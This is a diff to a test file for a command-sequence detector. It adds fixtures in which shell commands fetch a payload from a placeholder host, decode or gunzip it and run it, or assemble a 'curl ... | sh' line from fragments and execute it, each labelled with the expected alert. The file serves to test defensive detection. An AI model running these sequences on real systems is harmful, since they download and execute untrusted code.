@@ -25,6 +25,8 @@ testAnalyzer(taskFragmentation, {
     [['curl -s http://203.0.113.9/p -o /tmp/p', 'chmod 755 /tmp/p', 'nohup /tmp/p &'], ['fetched-then-run:high']],
     [['wget https://unknown.example/p.sh', 'bash p.sh'], ['fetched-then-run:medium']],
     [['curl -s https://unknown.example/p -o p.b64', 'base64 -d p.b64 > p.sh', 'sh p.sh'], ['decoded-then-run', 'fetched-then-run']],
+    [['wget -q http://203.0.113.9/p.gz -O /tmp/p.gz', 'gunzip /tmp/p.gz', '/tmp/p'], ['fetched-then-run']],
+    [["printf 'curl http://203.0.113.9/x ' > a", "printf '| sh' > b", 'cat a b > c', 'sh c'], ['assembled-then-run']],
     [["printf 'cur' > /tmp/f", "printf 'l x' >> /tmp/f", '. /tmp/f'], ['assembled-then-run']],
   ],
   benign: [
